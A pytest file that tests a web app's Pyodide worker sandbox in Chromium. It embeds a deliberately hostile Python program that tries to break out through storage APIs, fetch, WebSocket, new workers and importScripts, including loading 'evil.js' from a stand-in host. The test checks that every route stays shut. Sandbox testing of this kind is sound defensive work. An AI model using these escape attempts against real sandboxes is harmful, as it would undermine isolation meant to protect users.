"""The Lab's sandbox (issue 24 point 5), in Chromium: a hostile program run in the Lab tries
every door out of its worker (the offline copy in Cache Storage, IndexedDB, localStorage,
fetch to another origin and to the site, synchronous requests, importScripts, a new worker,
postMessage to the page, the page's document, the service worker, the origin's file system, a
broadcast to the site's other pages) and each fails; the site's storage and offline copy are
unchanged; then, with the server stopped, the site loads from its offline copy (the same
index.html bytes) and plays. Each test serves its own copy of the site (test_offline_page.py)."""

import pytest

from lab_pages import GAME, METHOD, fewest_moves, lab_message, open_lab, row, run, set_code
from pages import show, wait_status
from test_offline_page import built_site, first_visit, site, watched  # noqa: F401  (fixtures)
from conftest import wait_until_ready

# Each door is tried; one that opens raises at once (its name in the message), so a run that
# answers "count: N" means all N doors stayed shut. (The two functions the worker hands Python,
# _report and _read_site_file, stay reachable: each checks its input in JavaScript; the second
# is tried here.)
HOSTILE = '''
import js


def solve(position, progress):
    shut = 0

    def door(name, attempt):
        nonlocal shut
        try:
            attempt()
        except Exception:
            shut += 1
            return
        raise RuntimeError("OPEN DOOR: " + name)

    door("caches", lambda: js.caches.open("puzzle-workbench:evil"))
    door("indexedDB", lambda: js.indexedDB.open("evil"))
    door("localStorage", lambda: js.localStorage.setItem("evil", "1"))
    door("fetch to another origin", lambda: js.fetch("https://example.com/"))
    door("fetch to the site", lambda: js.fetch("index.html"))
    door("XMLHttpRequest", lambda: js.XMLHttpRequest.new())
    door("pyodide open_url", lambda: __import__("pyodide.http").http.open_url("index.html"))
    door("importScripts", lambda: js.importScripts("https://example.com/evil.js"))
    door("new Worker", lambda: js.Worker.new("data:text/javascript,postMessage(1)"))
    door("postMessage", lambda: js.postMessage("evil"))
    door("document", lambda: js.document.body)
    door("service worker", lambda: js.navigator.serviceWorker.register("sw.js"))
    door("file system", lambda: js.navigator.storage.getDirectory())
    door("BroadcastChannel", lambda: js.BroadcastChannel.new("evil"))
    door("WebSocket", lambda: js.WebSocket.new("wss://example.com/"))
    door("site file", lambda: __import__("__main__")._read_site_file("index.html"))
    return shut
'''
DOORS = HOSTILE.count('    door("')

INDEX_IN_CACHE = """async () => {
    for (const name of await caches.keys()) {
        const hit = await (await caches.open(name)).match(new URL('index.html', location.href).href);
        if (hit) return await hit.text();
    }
    return null;
}"""


def test_a_hostile_program_finds_every_door_shut(watched, site):  # noqa: F811
    page = first_visit(watched(), site)
    index_before = page.evaluate(INDEX_IN_CACHE)
    assert index_before and "lab-run" in index_before
    caches_before = page.evaluate("caches.keys()")
    open_lab(page)
    set_code(page, HOSTILE)
    run(page)
    assert "OPEN DOOR" not in lab_message(page), lab_message(page)
    assert row(page, METHOD + "-edited")["answer"] == "count: %d" % DOORS
    # Nothing was planted: the storage and the offline copy are as they were.
    assert page.evaluate("localStorage.getItem('evil')") is None
    assert page.evaluate("caches.keys()") == caches_before
    assert page.evaluate(INDEX_IN_CACHE) == index_before
    assert "evil" not in [db["name"] for db in page.evaluate("indexedDB.databases()")]
    # Offline, the site loads from its copy (the same index.html) and plays.
    site.stop()
    page.reload()
    wait_until_ready(page)
    assert page.evaluate("document.documentElement.outerHTML.includes('lab-run')")
    assert page.evaluate(INDEX_IN_CACHE) == index_before
    assert page.evaluate("fetch('index.html').then(response => response.text())") == index_before
    show(page, GAME)
    page.click("#solve")
    wait_status(page, "Solution found: %d moves" % fewest_moves(GAME))


# Run as the Lab's worker's very first program, asked for before the worker is ready: its
# module's first lines look for the doors (issue 38: the worker restored from the build's
# snapshot is sealed before any program runs, as one booted normally is).
FIRST_LOOK = '''
import js

NAMES = ("fetch", "indexedDB", "importScripts", "XMLHttpRequest", "caches", "postMessage", "Worker",
         "WebSocket", "BroadcastChannel", "localStorage")
OPEN = [name for name in NAMES if getattr(js, name, None) is not None]
if OPEN:
    raise RuntimeError("OPEN DOOR: " + ", ".join(OPEN))


def solve(position, progress):
    return len(NAMES)
'''
LOOKED_AT = 10

# Loads static/lab.js (as the Lab does when it opens) and asks its worker for one run at once;
# answers the worker's "ready" and the run's reply (lab.js tells them to the document).
FIRST_RUN = """async ([source, game]) => {
    const heard = {};
    const done = new Promise((resolve) => document.addEventListener("lab-message", (event) => {
        const said = JSON.parse(event.detail);
        if (said.kind === "ready") heard.ready = said;
        if (said.kind === "failed") resolve({ failed: said });
        if (said.id === 9999 && (said.kind === "done" || said.kind === "error")) resolve(said);
    }));
    await window.page.modules.lab();
    labWorker.run(9999, source, game);
    const reply = await done;
    return { reply, ready: heard.ready || null };
}"""


@pytest.mark.parametrize("start", ["from the snapshot", "booted"])
def test_the_first_program_finds_the_doors_shut_after_a_restore_as_after_a_boot(start, new_context,
                                                                               base_url_of_site):
    context = new_context()
    if start == "booted":  # no snapshot: the Lab's worker (and the solver's) boot Pyodide normally
        context.route("**/solver-snapshot.json", lambda route: route.fulfill(status=404, body="not found"))
    page = context.new_page()
    page.goto(base_url_of_site + "#" + GAME)
    wait_until_ready(page)
    found = page.evaluate(FIRST_RUN, [FIRST_LOOK, GAME])
    reply, ready = found["reply"], found["ready"]
    assert ready is not None, found
    assert ready["start"]["snapshot"] is (start == "from the snapshot"), ready["start"]
    assert reply["kind"] == "done", reply
    assert reply["result"]["answer"] == "count" and reply["result"]["count"] == LOOKED_AT, reply
